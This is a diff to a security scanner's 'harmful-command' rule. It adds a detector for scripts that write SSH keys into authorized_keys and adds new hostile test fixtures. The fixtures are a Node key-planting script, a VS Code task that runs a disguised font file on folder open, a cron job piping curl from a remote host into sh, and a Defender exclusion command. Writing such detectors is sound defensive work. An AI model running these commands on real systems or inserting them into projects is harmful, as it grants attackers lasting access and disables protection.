@@ -1,5 +1,20 @@
 import { defineRule } from '../../rule.ts';
+import { say } from '../../../texts/say.ts';
+import { callsNamed, pattern } from '../../facts/javascript/query.ts';
+import { checkScripts } from '../code/checkScripts.ts';
 import { commandHits } from './commandHits.ts';
+
+/** A key of the program's own is written into the list of those that may sign in. */
+const keysAdded = checkScripts(function* ({ script, hit }) {
+  for (const call of callsNamed(script, 'appendFileSync', 'appendFile', 'writeFileSync', 'writeFile')) {
+    const [path = 0, content = 0] = call.args;
+    if (
+      /\.ssh[\\/]+authorized_keys/.test(pattern(script, path)) &&
+      /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w+) [A-Za-z0-9+/]{8}/.test(pattern(script, content))
+    )
+      yield hit(call.value, { confidence: 'high', message: say('ssh-key-added') });
+  }
+});
 
 export const harmfulCommand = defineRule({
   id: 'harmful-command',
@@ -12,16 +27,31 @@ export const harmfulCommand = defineRule({
   references: ['https://attack.mitre.org/techniques/T1098/004/', 'https://attack.mitre.org/techniques/T1562/001/'],
   why: 'Lasting access, protection that is switched off, deleted files and mined currency serve whoever wrote the command, at the cost of whoever runs it.',
   remedy: 'Do not run it. If it ran, look for keys, tasks and exclusions that it left behind.',
-  check: (facts) =>
-    commandHits(facts, {
+  *check(facts) {
+    yield* keysAdded(facts);
+    yield* commandHits(facts, {
       'adds-key': 'ssh-key-added',
       'starts-always': 'download-started-always',
       'lowers-guard': 'protection-software-off',
       wipes: 'deletes-everything',
       mines: 'names-miner',
-    }),
+      disguised: 'disguised-program',
+    });
+  },
   examples: {
     bad: [
+      {
+        files: {
+          'i.js':
+            "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(`${os.homedir()}/.ssh/authorized_keys`, '\\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx me@host\\n');\n",
+        },
+      },
+      {
+        files: {
+          '.vscode/tasks.json':
+            '{"tasks":[{"label":"env","command":"node public/fa-solid.woff2","runOptions":{"runOn":"folderOpen"}}]}',
+        },
+      },
       { files: { 'i.sh': '(crontab -l; echo "*/5 * * * * curl -s https://u.dev/u | sh") | crontab -\n' } },
       { files: { 'i.ps1': 'Add-MpPreference -ExclusionPath $env:TEMP\n' } },
       {
